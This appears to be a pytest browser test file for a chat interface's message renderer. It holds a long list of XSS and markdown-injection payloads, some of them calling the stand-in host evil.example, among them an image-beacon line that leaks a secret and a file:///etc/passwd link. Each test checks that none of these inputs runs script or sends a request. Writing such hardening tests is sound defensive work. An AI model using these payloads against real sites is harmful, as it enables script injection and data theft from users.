"""Texts that attack the page, as a model, a file, an import or an error message could bring them.

No script of theirs may run, no request may leave the host, the browser may report no violation of
the policy, and the document stays small.
"""

from __future__ import annotations

import itertools
import json
import random
from pathlib import Path
from typing import Any

import pytest

from tests.support.page_driver import Reader

pytestmark = pytest.mark.browser

EVIL = "https://evil.example/x"
ACTS = "window.attacked=1"
SEEDS = [
    f"<script>{ACTS}</script>",
    f"<img src=x onerror={ACTS}>",
    f"<img src={EVIL}.png>",
    f"<svg onload={ACTS}><script>{ACTS}</script></svg>",
    f"<svg><animate onbegin={ACTS} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACTS}>",
    f"<iframe srcdoc='<script>{ACTS}</script>'></iframe>",
    f"<iframe src={EVIL}></iframe>",
    f"<object data={EVIL}></object><embed src={EVIL}>",
    f"<link rel=stylesheet href={EVIL}.css><style>@import '{EVIL}'</style>",
    f"<base href={EVIL}><meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action={EVIL}><input name=a><button>go</button></form>",
    f"<details open ontoggle={ACTS}>x</details>",
    f"<video src={EVIL} onerror={ACTS}></video><audio src={EVIL}></audio>",
    f"<div style='background:url({EVIL})'>x</div>",
    f"<a href='javascript:{ACTS}'>x</a>",
    f"[x](javascript:{ACTS})",
    f"[x](JaVaScRiPt:{ACTS})",
    f"[x](\tjavascript:{ACTS})",
    f"[x](&#106;avascript:{ACTS})",
    f"[x](data:text/html,<script>{ACTS}</script>)",
    f"[x](vbscript:{ACTS})",
    "[x](file:///etc/passwd)",
    f"![secret]({EVIL}?q=secret)",
    f"![x](data:image/svg+xml,<svg onload={ACTS}>)",
    f'![x]({EVIL} "t" onerror={ACTS})',
    f"[![x]({EVIL}.png)]({EVIL})",
    f"![x][r]\n\n[r]: {EVIL}.png",
    f"[x][r]\n\n[r]: javascript:{ACTS}",
    f"<{EVIL}> <javascript:{ACTS}>",
    f'[x]({EVIL} "a\\" onclick=\\"{ACTS}")',
    f"```html\n<script>{ACTS}</script>\n```",
    f'```"><img src=x onerror={ACTS}>\nx\n```',
    f"```js onload={ACTS}\nx",
    f"`<img src=x onerror={ACTS}>`",
    f"$<img src=x onerror={ACTS}>$",
    f"$\\href{{javascript:{ACTS}}}{{x}}$",
    f"$\\url{{{EVIL}}}$ $\\includegraphics{{{EVIL}.png}}$",
    f"$\\htmlStyle{{background:url({EVIL})}}{{x}}$ $\\htmlData{{a=b}}{{x}}$",
    "$\\def\\a#1{#1#1#1#1#1#1#1#1#1#1}\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}$",
    "$\\rule{9999999em}{9999999em}$ $\\kern{999999em}x$",
    "$$" + "{" * 2000 + "x" + "}" * 2000 + "$$",
    "$$\\begin{matrix}" + "a&" * 1500 + "\\end{matrix}$$",
    "$$\n\\unclosed{\n",
    "\u202e)fdp.exe\u202c \u2066hidden\u2069 \u200b\u200d\ufeff",
    "a\u0000b\u0007\u001b[31mc\u009f",
    "\ud83d\ude00" * 300 + "\u0301" * 500,
    "> " * 500 + "deep",
    "- " * 400 + "deep",
    "*" * 3000,
    "[" * 2000,
    "![" * 1500 + f"]({EVIL})" * 10,
    "_a_" * 1000,
    "|a" * 300 + "\n" + "|-" * 300 + "\n" + "|b" * 300,
    "# " * 300 + "\n===\n---",
    "x" * 20000,
    "&lt;script&gt;" + "&#x3c;img src=x onerror=" + ACTS + "&#x3e;",
    f"<scr<script>ipt>{ACTS}</script>",
    f"x <script>y <details open ontoggle={ACTS}>z</details>",
    f"x <pre>y <img src=x onerror={ACTS}> <a href={EVIL}>z</a>",
    f"<!--><img src=x onerror={ACTS}>--><![CDATA[<script>{ACTS}</script>]]>",
    f"<noscript><p title='</noscript><img src=x onerror={ACTS}>'>",
    f"<template><script>{ACTS}</script></template><slot onslotchange={ACTS}>",
    f"<p id=view name=body><input name=attributes><a id=location href={EVIL}>x</a>",
    "<x-y is=infer-app></x-y><side-bar></side-bar><key-dialog></key-dialog>",
]  # fmt: skip
FRAMES = [
    "{}",
    "a **b {}** c",
    "1. x\n2. {}\n\n> {}",
    "| a |\n|---|\n| {} |",
    "text\n\n{}\n\nafter",
]
RENDER = """
async (texts) => {
  await import("/ui/lib/text_view.js");
  const bad = [];
  let seed = 7;
  const dice = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
  for (const [i, text] of texts.entries()) {
    const view = document.createElement("text-view");
    document.querySelector(".messages").append(view);
    const bytes = new TextEncoder().encode(text), decoder = new TextDecoder();
    let shown = "", frames = 0;
    for (let at = 0; at < bytes.length; ) {
      const size = 1 + Math.floor(3 * dice());
      shown += decoder.decode(bytes.slice(at, at + size), {stream: true});
      at += size;
      view.value = {text: shown, isOpen: true};
      if (dice() < 0.02 && frames++ < 8) await new Promise(requestAnimationFrame);
    }
    view.value = {text, isOpen: false};
    await new Promise((done) => setTimeout(done, 5));
    const all = [...view.querySelectorAll("*")];
    const names = "script img iframe object embed link style base meta form input video audio"
      + " template svg";
    for (const each of all) {
      const name = each.localName;
      if (names.split(" ").includes(name) || name.includes("-")) bad.push([i, "element " + name]);
      for (const {name: attribute, value} of each.attributes) {
        const isBad = ["style", "src", "srcdoc", "id", "name"].includes(attribute)
          || attribute.startsWith("on")
          || (/href/.test(attribute) && !/^(https?:|mailto:)/i.test(value));
        if (isBad) bad.push([i, attribute + "=" + value]);
      }
      if (name === "a" && !/noopener noreferrer/.test(each.rel)) bad.push([i, "rel"]);
    }
    if (all.length > 200 + 4 * text.length) bad.push([i, all.length + " elements"]);
    view.remove();
    if (window.attacked) { bad.push([i, "a script ran"]); window.attacked = 0; }
  }
  return bad;
}
"""


def texts() -> list[str]:
    dice = random.Random(5)
    found = [
        frame.replace("{}", seed)
        for seed, frame in itertools.product(SEEDS, FRAMES)
        if len(seed) < 3000 or frame == "{}"
    ]
    while len(found) < 320:  # two at once, cut anywhere
        one, other = dice.choices([seed for seed in SEEDS if len(seed) < 500], k=2)
        found.append(one[: dice.randrange(1, len(one))] + other)
    return found


def test_texts_in_small_pieces_do_nothing(reader: Reader) -> None:
    all_texts = texts()
    assert len(all_texts) >= 300
    for start in range(0, len(all_texts), 40):
        found = reader.page.evaluate(RENDER, all_texts[start : start + 40])
        assert not found, [(all_texts[start + i][:100], what) for i, what in found]


def test_the_check_of_the_document_sees_an_attack(reader: Reader) -> None:
    """The harness would notice: with plain DOM calls the same texts do harm."""
    made = "const e = document.createElement('a'); e.href = 'javascript:1'; this.append(e)"
    spoiled = RENDER.replace(
        'await import("/ui/lib/text_view.js");',
        f"customElements.define('x-view', class extends HTMLElement {{set value(_) {{{made}}}}});",
    ).replace('createElement("text-view")', 'createElement("x-view")')
    assert reader.page.evaluate(spoiled, ["x"])


@pytest.mark.parametrize("seed", [0, 2, 7, 16, 23, 31, 36])
def test_a_real_answer_does_nothing(reader: Reader, seed: int) -> None:
    """The model is made to say it, by a grammar."""
    page = reader.page
    reader.open_settings()
    page.fill("dialog textarea.mono >> nth=2", json.dumps({"guided_choice": [SEEDS[seed]]}))
    page.keyboard.press("Tab")
    page.click("dialog footer button.main")
    reader.ask("Say it.")
    assert not page.evaluate("window.attacked")
    assert not page.locator("text-view img, text-view script, text-view iframe").count()


def test_imports_with_hostile_titles_files_and_calls(reader: Reader, tmp_path: Path) -> None:
    page = reader.page
    short = [seed for seed in SEEDS if len(seed) < 500]
    base = {"created": 1, "updated": 1, "pinned": False, "system": "", "tools": "", "schema": ""}
    listed: list[dict[str, Any]] = []
    for number, seed in enumerate(short):
        name = f"c{number}"
        conversation = {**base, "id": name, "title": seed, "toolChoice": "auto", "sampling": {}}
        call = {"id": "1", "type": "function", "function": {"name": seed, "arguments": seed}}
        file = {"name": seed, "size": 3, "text": seed}
        messages = [
            {"id": "1", "conversation": name, "parent": None, "role": "user", "content": seed}
            | {"created": 1, "files": [file]},
            {"id": "2", "conversation": name, "parent": "1", "role": "assistant", "created": 2}
            | {"content": seed, "reasoning": seed, "toolCalls": [call], "finish": "error"}
            | {"problem": seed},
        ]
        listed.append({"conversation": {**conversation, "chosen": {}}, "messages": messages})
    path = tmp_path / "import.json"
    path.write_text(
        json.dumps({"format": "infer-conversations", "version": 1, "conversations": listed}),
        encoding="utf-8",
    )
    reader.open_settings()
    page.set_input_files("transfer-panel input", str(path))
    page.wait_for_selector("transfer-panel .notice")
    assert f"{len(short)} conversations were imported" in page.inner_text("transfer-panel .notice")
    page.click("dialog footer button.main")
    for row in range(0, len(short), 7):
        page.click(f".conversations button.open >> nth={row}")
        page.wait_for_selector(".message.assistant .call")
    assert not page.evaluate("window.attacked")
    inside = ".messages :is(img, script, iframe, form, style, object), .sidebar :is(img, script)"
    assert not page.locator(inside).count()


def test_error_messages_are_text(reader: Reader) -> None:
    page = reader.page
    reader.open_settings()
    page.fill("dialog textarea.mono >> nth=2", json.dumps({"guided_regex": "(" + SEEDS[1]}))
    page.keyboard.press("Tab")
    page.click("dialog footer button.main")
    reader.send("Hello")
    page.wait_for_selector(".fault")
    assert "onerror" in page.inner_text(".fault")
    assert page.input_value(".composer textarea") == "Hello"
    assert not page.locator(".fault img").count()
